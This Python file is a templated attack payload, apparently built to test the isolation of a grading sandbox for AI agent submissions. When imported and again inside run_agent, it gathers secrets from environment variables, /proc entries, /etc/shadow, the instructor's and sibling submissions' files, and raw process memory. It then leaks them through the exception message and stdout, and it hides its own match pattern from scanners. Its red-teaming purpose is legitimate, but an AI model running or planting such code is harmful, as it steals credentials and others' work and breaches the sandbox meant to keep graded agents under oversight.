# Attack: collect every secret reachable from inside the grading (environment, /proc of
# other processes, the instructor's files, the sibling submission's source, the memory of
# other processes, this process's own heap) and smuggle it into the report through the
# exception message of run_agent (and print). The canary proves the channel works.
import gc
import os
import re
import sys

#@@INCLUDE:_common.py@@

CANARY = "@@CANARY@@"
FILES = [
    "@@HOME@@/segredo.txt",
    "@@INSTRUCTOR@@/segredo-do-professor.txt",
    "@@OUTSIDE@@/segredo.txt",
    "@@SIBLING@@",
    "/etc/passwd",
    "/etc/shadow",
]
# Built at run time, so this file's own text never matches.
PATTERN = re.compile(
    b"(" + b"SEGRE" + b"DO-[A-Z]+-[0-9a-f]{16}" + b"|" + b"TOKEN" + b"-VIZINHO-[0-9a-f]{16}" + b"|ro" + b"ot:x:0:0:[^\\n]*" + b")"
)
FOUND = {}


def _scan(label, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogateescape")
    for match in PATTERN.findall(data or b""):
        FOUND.setdefault(match.decode("utf-8", "replace")[:80], label)


def _environ():
    _scan("os.environ", repr(dict(os.environ)))


def _proc_environs():
    for pid in ["self", "1", str(os.getppid())] + [str(p) for p in _pids()]:
        try:
            _scan(f"/proc/{pid}/environ", _read_proc(pid, "environ", 1 << 20))
        except OSError:
            pass
        try:
            _scan(f"/proc/{pid}/cmdline", _read_proc(pid, "cmdline", 1 << 20))
        except OSError:
            pass


def _files():
    root = os.open("/", os.O_RDONLY)
    for path in FILES:
        for how in ("open", "dirfd"):
            try:
                if how == "open":
                    with open(path, "rb") as f:
                        _scan(path, f.read(1 << 20))
                else:
                    fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
                    _scan(path, os.read(fd, 1 << 20))
                    os.close(fd)
            except OSError:
                pass


def _proc_roots():
    # Other processes' cwd and root: the CLI's cwd is the instructor's folder.
    for pid in _pids():
        for rel in ("cwd/segredo-do-professor.txt", "root@@HOME@@/segredo.txt", "root/etc/passwd"):
            try:
                with open(f"/proc/{pid}/{rel}", "rb") as f:
                    _scan(f"/proc/{pid}/{rel}", f.read(1 << 16))
            except OSError:
                pass


def _proc_mem():
    me = os.getpid()
    for pid in _pids():
        if pid == me:
            continue
        try:
            maps = _read_proc(pid, "maps", 1 << 22).decode("ascii", "replace").splitlines()
            mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            continue
        try:
            budget = 256 << 20
            for line in maps:
                parts = line.split()
                if len(parts) < 2 or not parts[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in parts[0].split("-"))
                size = min(end - start, 64 << 20, budget)
                if size <= 0:
                    break
                budget -= size
                try:
                    _scan(f"/proc/{pid}/mem", os.pread(mem, size, start))
                except OSError:
                    pass
        finally:
            os.close(mem)


def _own_heap():
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for value in list(obj.values())[:50]:
                if isinstance(value, (str, bytes)) and len(value) < 1 << 20:
                    _scan("gc", value)
    for module in list(sys.modules.values()):
        for value in list(getattr(module, "__dict__", {}).values()):
            if isinstance(value, (str, bytes)):
                _scan("sys.modules", value)


TECHNIQUES = "@@TECHNIQUES@@".split(",")


def collect(when):
    for fn in (_environ, _proc_environs, _files, _proc_roots, _proc_mem, _own_heap):
        if fn.__name__.strip("_") not in TECHNIQUES:
            continue
        _try(f"{when}{fn.__name__}", fn)
    return CANARY + " " + " ".join(f"[{k}]" for k in FOUND) + " {" + " ".join(_RESULTS[-8:]) + "}"


LOADED = collect("load")


def run_agent(task, tools, call_model, execute_tool):
    leak = collect("run")
    print(leak)
    raise RuntimeError(leak)
